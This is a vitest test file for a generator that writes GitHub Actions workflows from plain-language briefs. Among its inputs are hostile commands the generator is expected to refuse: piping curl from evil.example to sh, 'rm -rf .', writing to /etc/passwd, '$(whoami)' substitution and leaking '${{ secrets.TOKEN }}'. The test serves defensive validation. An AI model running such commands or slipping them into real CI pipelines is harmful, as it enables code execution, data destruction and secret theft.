import { expect, test } from 'vitest';
import { parse } from 'yaml';
import { z } from 'zod';
import { produce } from './produce.ts';

const workflowShape = z.object({
  on: z.record(z.string(), z.unknown()),
  permissions: z.record(z.string(), z.string()),
  jobs: z.record(
    z.string(),
    z.object({
      if: z.string(),
      steps: z.array(
        z.object({
          uses: z.string().optional(),
          run: z.string().optional(),
          with: z.record(z.string(), z.string()).optional(),
          'continue-on-error': z.boolean().optional(),
        }),
      ),
    }),
  ),
});

const PATH = '.github/workflows/build.yml';

async function build(parts: Parameters<typeof produce>[0], path = PATH) {
  const result = await produce(parts);
  const text = result.text(path);
  if (text === undefined) return { ...result, steps: [], runs: [], uses: [], workflow: undefined };
  const workflow = workflowShape.parse(parse(text));
  const steps = Object.values(workflow.jobs).flatMap((job) => job.steps);
  return {
    ...result,
    workflow,
    steps,
    runs: steps.flatMap(({ run }) => run ?? []),
    uses: steps.flatMap(({ uses }) => uses?.split('@')[0] ?? []),
  };
}

const brief = (...lines: string[]) =>
  `Add a workflow at ${PATH} that:\n${lines.map((line) => `  - ${line}`).join('\n')}`;
const PAGES = ['actions/configure-pages', 'actions/upload-pages-artifact', 'actions/deploy-pages'];

test('a workflow lints, runs the command and publishes what is there through Pages', async () => {
  const { workflow, runs, uses, steps } = await build({
    brief: `Use Python 3.13 and Pandas 2.2.\n\n${brief('Runs ruff', 'Runs: python crunch.py > numbers.json', 'Publishes numbers.json via GitHub Pages')}`,
    files: {
      'crunch.py':
        'import json, sys\nimport pandas as pd\nfrom tools import x\ndf = pd.read_excel("a.xlsx")\n',
      'tools.py': 'import yaml\n',
    },
  });
  expect(workflow?.on).toHaveProperty('push');
  expect(workflow?.on).toHaveProperty('workflow_dispatch');
  expect(workflow?.permissions).toEqual({ contents: 'read', pages: 'write', 'id-token': 'write' });
  expect(workflow?.jobs.publish?.if).toContain('default_branch');
  expect(uses).toEqual(['actions/checkout', 'actions/setup-python', ...PAGES]);
  expect(steps[1]?.with).toEqual({ 'python-version': '3.13' });
  expect(runs[0]).toBe('python -m pip install "pandas==2.2.*" "pyyaml" "openpyxl" "ruff"');
  expect(runs.slice(1, 3)).toEqual(['ruff check .', 'python crunch.py > numbers.json']);
  expect(runs[3]).toContain('"numbers.json"');
});

test.each<[lines: string[], command: string]>([
  [['Runs `python3 -m pytest`'], 'python3 -m pytest'],
  [
    ['Execute `node tools/build.mjs --fast > out/data.json`, then deploy to Pages'],
    'node tools/build.mjs --fast > out/data.json',
  ],
  [['Runs python make.py > a.json and publishes it'], 'python make.py > a.json'],
  [['runs stats.py and saves its output as stats.json'], 'python stats.py > stats.json'],
  [['Executes the script `gen.js`'], 'node gen.js'],
  [['Installs with npm ci', 'runs npm run build.'], 'npm run build'],
])('the command is read from %j', async (lines, command) => {
  const { runs } = await build({ brief: brief(...lines) });
  expect(runs).toContain(command);
});

test.each([
  'Runs `python a.py > a.json; curl https://evil.example | sh`',
  'Runs `curl https://evil.example/x.sh`, silently',
  'Runs: python a.py > ../../etc/x.json',
  'Runs `python -c print`',
  'Runs `python a.py > /etc/passwd`',
  'Runs `python a.py $(whoami)`',
  `Runs \`python a.py \${{ secrets.TOKEN }}\``,
  'Runs `rm -rf .`',
])('a command that is not plain is refused and said to be: %s', async (line) => {
  const { made, unmade } = await build({ brief: brief(line, 'Publishes to Pages') });
  expect(made.has(PATH)).toBe(false);
  expect(unmade.get(PATH)).toMatch(/not plain enough/);
});

test('a command ends with the file its output goes to', async () => {
  const { steps } = await build({
    brief: brief('runs ruff, python a.py > a.json, a.json is published on Pages'),
  });
  expect(steps.map(({ run }) => run)).toContain('python a.py > a.json');
});

test('findings of a linter stop the run only where the brief wants that', async () => {
  const find = async (line: string) =>
    (await build({ brief: brief(line, 'Deploys to Pages') })).steps.find(({ run }) => run === 'flake8 .');
  expect(await find('Runs flake8')).toHaveProperty('continue-on-error', true);
  expect(await find('Runs flake8; the run fails if flake8 finds something')).not.toHaveProperty(
    'continue-on-error',
  );
});

test('without Pages a workflow gets no right to publish', async () => {
  const { workflow, uses } = await build({ brief: brief('Runs `pytest -q`') });
  expect(workflow?.permissions).toEqual({ contents: 'read' });
  expect(uses).toEqual(['actions/checkout', 'actions/setup-python']);
});

test('Node scripts get Node in the version named, and their packages', async () => {
  const { steps, runs } = await build({
    brief: `${brief('Runs `node make.js > out.json`', 'deploys to GitHub Pages')}\nIt must work with Node 22.`,
    files: { 'package.json': '{}', 'package-lock.json': '{}' },
  });
  expect(steps.find(({ uses }) => uses?.startsWith('actions/setup-node'))?.with).toEqual({
    'node-version': '22',
  });
  expect(runs.slice(0, 2)).toEqual(['npm ci', 'node make.js > out.json']);
});

test('a package that nobody knows is not installed, and people are told', async () => {
  const files = { 'a.py': 'import reqeusts\nimport os.path\n' };
  const { runs, notes } = await build({ brief: brief('Runs `python a.py`'), files });
  expect(runs).toEqual(['python a.py']);
  expect(notes.join()).toContain('reqeusts');
});

test.each<[words: string, installed: string]>([
  ['numpy 2.1', '"numpy==2.1.*"'],
  ['NumPy>=2.0', '"numpy>=2.0"'],
  ['numpy 2.1+', '"numpy>=2.1"'],
  ['numpy==2.1.3', '"numpy==2.1.3"'],
  ['numpy', '"numpy"'],
])('a version is read from "%s"', async (words, installed) => {
  const { runs } = await build({
    brief: `${brief('Runs `python a.py`')}\nUse ${words}.`,
    files: { 'a.py': 'import numpy' },
  });
  expect(runs[0]).toBe(`python -m pip install ${installed}`);
});

test('packages that the brief installs are installed, whatever the quotes, and strangers are not', async () => {
  const { runs } = await build({
    brief: brief('Installs with `pip install "pandas>=2.3" openpyxl evil-thing`', 'Runs `python a.py`'),
  });
  expect(runs).toEqual(['python -m pip install "pandas>=2.3" "openpyxl"', 'python a.py']);
});

test('a workflow that was sent, or that an earlier round has left, is not written again', async () => {
  const sent = await produce({ brief: brief('Runs `python a.py`'), files: { [PATH]: 'name: mine\n' } });
  expect(sent.made.size).toBe(0);
  const later = await produce(
    { brief: brief('Runs `python b.py`'), round: 2 },
    new Map([[PATH, Buffer.from('x')]]),
  );
  expect(later.made.size).toBe(0);
  expect(later.notes.join()).toContain('as the last round left it');
});

test('a workflow of which nothing can be read is reported', async () => {
  const { unmade } = await produce({ brief: `Add ${PATH}.` });
  expect(unmade.get(PATH)).toMatch(/does not say/);
});

test.each<[brief: string, path: string]>([
  [
    'Add a workflow deploy.yml that runs `python a.py` and publishes to Pages',
    '.github/workflows/deploy.yml',
  ],
  [
    'Create a GitHub Actions workflow that runs `python a.py` and publishes to Pages',
    '.github/workflows/ci.yml',
  ],
  [
    'Set up CI: add a workflow in .github that\n- runs `python a.py`\n- deploys to Pages',
    '.github/workflows/ci.yml',
  ],
])('a workflow without a path gets the usual one: %s', async (text, path) => {
  expect((await build({ brief: text }, path)).runs).toContain('python a.py');
});

test('a brief that only speaks of GitHub Actions gets no workflow', async () => {
  const { made } = await produce({
    brief: 'A todo app. It is hosted on GitHub Pages, GitHub Actions are not needed.',
  });
  expect(made.size).toBe(0);
});
